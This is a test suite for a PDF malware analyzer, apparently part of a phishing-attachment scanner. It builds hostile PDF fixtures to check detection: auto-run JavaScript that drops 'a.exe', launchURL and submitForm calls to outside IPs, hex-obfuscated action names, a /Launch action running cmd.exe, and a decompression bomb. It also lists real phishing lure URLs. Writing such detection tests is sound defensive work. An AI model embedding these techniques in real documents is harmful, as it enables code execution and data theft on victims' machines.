import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { Finding } from '../../../src/domain/finding';
import { analyzePdf, ANALYZER_VERSION } from '../../../src/analyzers/documents/pdf';
import { corpusAttachment } from './corpus-attachments';

/** A PDF written by pdf-lib with object streams on (its default), so dictionaries are compressed. */
async function pdfWith(edit: (doc: PDFDocument) => void | Promise<void>): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]);
  await edit(doc);
  return doc.save({ useObjectStreams: true });
}

/** A hand-written PDF from object bodies (xref offsets are not needed by the scanner, nor by most readers). */
function rawPdf(objects: string[], trailer = '<< /Root 1 0 R >>'): Uint8Array {
  const body = objects.map((o, i) => `${i + 1} 0 obj\n${o}\nendobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${body}trailer\n${trailer}\n%%EOF\n`, 'latin1');
}

const latin1 = (b: Uint8Array): string => Buffer.from(b).toString('latin1');

describe('active content', () => {
  test('JavaScript run by /OpenAction, hidden in a compressed object stream, is malicious', async () => {
    const pdf = await pdfWith((doc) => {
      const action = doc.context.register(
        doc.context.obj({
          Type: 'Action',
          S: 'JavaScript',
          JS: PDFString.of('app.alert("hi"); this.exportDataObject({cName: "a.exe", nLaunch: 2});'),
        }),
      );
      doc.catalog.set(PDFName.of('OpenAction'), action);
    });
    expect(latin1(pdf)).not.toContain('/JavaScript'); // only visible after inflating the object stream
    const { finding, facts } = analyzePdf(pdf);
    expect(Finding.parse(finding)).toEqual(finding);
    expect(facts.objectStreams).toBeGreaterThanOrEqual(1);
    expect(facts.decodedStreams).toBeGreaterThanOrEqual(1);
    expect(facts.names.OpenAction).toBe(1);
    expect(facts.names.JavaScript).toBe(1);
    expect(facts.javascript).toEqual(['app.alert("hi"); this.exportDataObject({cName: "a.exe", nLaunch: 2});']);
    expect(facts.jsIndicators).toContain('exportDataObject');
    expect(finding.verdict).toBe('malicious');
    expect(finding.attack).toEqual(['T1059.007', 'T1204.002']);
    expect(ANALYZER_VERSION).toMatch(/^\d+$/);
  });

  test('JavaScript kept in a Flate stream referenced by /JS n 0 R is read from the stream', async () => {
    const pdf = await pdfWith((doc) => {
      const script = doc.context.register(
        doc.context.flateStream('var u = unescape("%u9090%u9090%u9090%u9090"); app.launchURL("http://198.51.100.7/x", true);'),
      );
      const action = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: script }));
      doc.catalog.set(PDFName.of('OpenAction'), action);
    });
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.javascript.join('\n')).toContain('app.launchURL("http://198.51.100.7/x", true)');
    expect(facts.jsIndicators).toEqual(expect.arrayContaining(['unescape', 'launchURL/getURL', 'shellcode escapes']));
    expect(finding.verdict).toBe('malicious');
  });

  test('hex-escaped names (/J#61vaScript, /J#53) are normalized and flagged as obfuscation', () => {
    const pdf = rawPdf(['<< /Type /Catalog /OpenAction 2 0 R >>', '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>']);
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.names).toMatchObject({ JavaScript: 1, JS: 1, OpenAction: 1 });
    expect(facts.obfuscatedNames).toEqual(['/J#61vaScript', '/J#53']);
    expect(facts.javascript).toEqual(['app.alert(1)']);
    expect(finding.verdict).toBe('malicious');
    expect(finding.attack).toEqual(['T1027', 'T1059.007', 'T1204.002']);
  });

  test('a /Launch action starting cmd.exe on open', () => {
    const pdf = rawPdf(['<< /Type /Catalog /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c start calc) >> >> >>']);
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.launch[0]).toContain('/F (cmd.exe)');
    expect(finding.verdict).toBe('malicious');
    expect(finding.score).toBe(85);
    expect(finding.attack).toEqual(['T1059.003', 'T1204.002']);
  });

  test('an embedded file attached by pdf-lib is listed; alone it is only suspicious', async () => {
    const pdf = await pdfWith(async (doc) => {
      await doc.attach(Buffer.from('MZ'), 'invoice.exe', { mimeType: 'application/octet-stream' });
    });
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.names.EmbeddedFile).toBeGreaterThanOrEqual(1);
    expect(facts.embeddedFiles).toContain('invoice.exe');
    expect(finding.verdict).toBe('suspicious');
  });

  test('ASCIIHex + Flate filter chains are decoded', () => {
    const inner = deflateSync(Buffer.from('<< /S /JavaScript /JS (this.submitForm\\("http://203.0.113.5/"\\)) >>'));
    const data = inner.toString('hex').toUpperCase() + '>';
    const pdf = rawPdf([
      '<< /Type /Catalog /AA << /O 2 0 R >> >>',
      `<< /Filter [/ASCIIHexDecode /FlateDecode] /Length ${data.length} >>\nstream\n${data}\nendstream`,
    ]);
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.javascript).toEqual(['this.submitForm("http://203.0.113.5/")']);
    expect(facts.names.AA).toBe(1);
    expect(finding.verdict).toBe('malicious');
  });

  test('a link annotation: the URI is extracted, the PDF is not called malicious', async () => {
    const pdf = await pdfWith((doc) => {
      const annot = doc.context.register(
        doc.context.obj({
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [0, 0, 100, 100],
          A: { S: 'URI', URI: PDFString.of('https://login.example.net/verify') },
        }),
      );
      doc.getPage(0).node.addAnnot(annot);
    });
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.uris).toEqual(['https://login.example.net/verify']);
    expect(finding.verdict).toBe('benign');
    expect(finding.summary).toMatch(/1 link/);
  });
});

describe('real phishing PDFs from the corpus', () => {
  test('lure PDFs with a link and a form: URI extracted, no active content', async () => {
    const pdf = await corpusAttachment('2281', 'WlCPrudkkpyk711sF2471.pdf');
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.version).toBe('1.4');
    expect(facts.uris).toEqual(['https://suportebbcard1.z13.web.core.windows.net/']);
    expect(facts.names.AcroForm).toBe(1);
    expect(facts.anomalies).toEqual([]);
    expect(finding.verdict).toBe('benign');
    expect(finding.error).toBeUndefined();
  });

  test('an encrypted PDF: noted, streams not decoded, lower confidence', async () => {
    const pdf = await corpusAttachment('3641', 'FotoCivicas.rCNuVDM3in.pdf');
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.version).toBe('2.0');
    expect(facts.encrypted).toBe(true);
    expect(facts.decodedStreams).toBe(0);
    expect(finding.confidence).toBeLessThanOrEqual(0.5);
    expect(finding.evidence.join(' ')).toMatch(/encrypted/);
  });
});

describe('malformed PDFs', () => {
  test('a huge declared /Length and an object without endobj are anomalies, not hangs', () => {
    const pdf = Buffer.from(
      '%PDF-1.4\n1 0 obj\n<< /Length 99999999999 /Filter /FlateDecode >>\nstream\nxyz\nendstream\nendobj\n2 0 obj\n<< /Type /Catalog /OpenAction 3 0 R\n' +
        'A'.repeat(100_000),
      'latin1',
    );
    const { finding, facts } = analyzePdf(pdf);
    expect(facts.anomalies.join(' ')).toMatch(/declared \/Length 99999999999 is larger than the file/);
    expect(facts.anomalies.join(' ')).toMatch(/1 object\(s\) without endobj/);
    expect(facts.streams).toBe(1);
    expect(finding.error).toBeUndefined();
    expect(finding.confidence).toBe(0.5);
  });

  test('a stream without endstream runs to the end of its object', () => {
    const pdf = rawPdf(['<< /Length 5 >>\nstream\nhello /JS (app.alert(2))']);
    const { facts } = analyzePdf(pdf);
    expect(facts.anomalies.join(' ')).toMatch(/stream without endstream/);
    expect(facts.javascript).toEqual(['app.alert(2)']);
  });

  test('a Flate bomb stream is cut at the per-stream cap', () => {
    const bomb = deflateSync(Buffer.alloc(50 << 20));
    const pdf = Buffer.concat([
      Buffer.from(`%PDF-1.5\n1 0 obj\n<< /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`),
      bomb,
      Buffer.from('\nendstream\nendobj\n'),
    ]);
    const { facts } = analyzePdf(pdf, { maxStreamOutput: 1 << 20 });
    expect(facts.undecoded.join(' ')).toMatch(/output over 1048576 bytes/);
  });

  test('no header and no objects: a finding with error', () => {
    const { finding } = analyzePdf(Buffer.from('hello world'));
    expect(finding.error).toMatch(/not a PDF/);
    expect(finding.verdict).toBe('unknown');
  });

  test('a header after junk is accepted with an anomaly', () => {
    const pdf = Buffer.concat([Buffer.from('junk\r\n'), rawPdf(['<< /Type /Catalog >>'])]);
    const { facts } = analyzePdf(pdf);
    expect(facts.headerOffset).toBe(6);
    expect(facts.anomalies[0]).toMatch(/after junk/);
  });
});
